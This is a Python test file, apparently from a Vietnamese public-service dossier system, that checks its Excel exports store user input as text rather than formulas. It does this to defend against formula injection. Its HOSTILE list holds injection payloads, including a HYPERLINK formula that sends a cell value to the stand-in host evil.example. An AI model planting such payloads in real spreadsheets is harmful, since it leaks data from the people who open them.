"""Every spreadsheet export writes user input as values, never formulas (OWASP CSV/formula
injection, issue 14 §2): the Mẫu 07 register, the period report and the catalog export."""

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from motcua.catalog.exchange import catalog_export_file
from motcua.dossiers import printing
from motcua.dossiers.models import Dossier
from motcua.dossiers.tests.conftest import World, clock, fast_passwords, world
from motcua.dossiers.tests.factories import received
from motcua.reports.excel import period_workbook
from motcua.reports.periods import Period
from motcua.reports.selectors import Figures

__all__ = ["clock", "fast_passwords", "world"]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _formulas_and_texts(body: bytes) -> tuple[list[str], list[str]]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        formulas = [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]
    book = load_workbook(io.BytesIO(body))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    # XML keeps no bare CR: "\r=1+1" reads back as "\n=1+1", still text.
    quoted = [
        c.value.replace("\n", "\r") if c.value.startswith("\n") else c.value
        for c in cells
        if isinstance(c.value, str) and c.quotePrefix
    ]
    return formulas, quoted


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_register_writes_a_hostile_name_as_text(world: World, hostile: str) -> None:
    dossier = received(world)
    Dossier.objects.filter(pk=dossier.pk).update(applicant_name=hostile)
    formulas, quoted = _formulas_and_texts(printing.register_xlsx(Dossier.objects.all()))
    assert formulas == [] and hostile in quoted


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_period_report_writes_a_hostile_procedure_name_as_text(hostile: str) -> None:
    period = Period(dt.date(2026, 1, 1), dt.date(2026, 3, 31))
    body = period_workbook("Báo cáo", period, [Figures(hostile), Figures("Tổng cộng")])
    formulas, quoted = _formulas_and_texts(body)
    assert formulas == [] and hostile in quoted


def test_the_catalog_export_writes_a_hostile_name_as_text_and_reads_it_back(
    world: World, tmp_path: Path
) -> None:
    hostile = HOSTILE[0]
    world.version.name = hostile
    world.version.save()
    path = tmp_path / "danh-muc.xlsx"
    catalog_export_file(path)
    formulas, quoted = _formulas_and_texts(path.read_bytes())
    assert formulas == [] and hostile in quoted
    # Read back, the name is the text typed, not a computed value.
    book = load_workbook(path)
    names = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert hostile in names
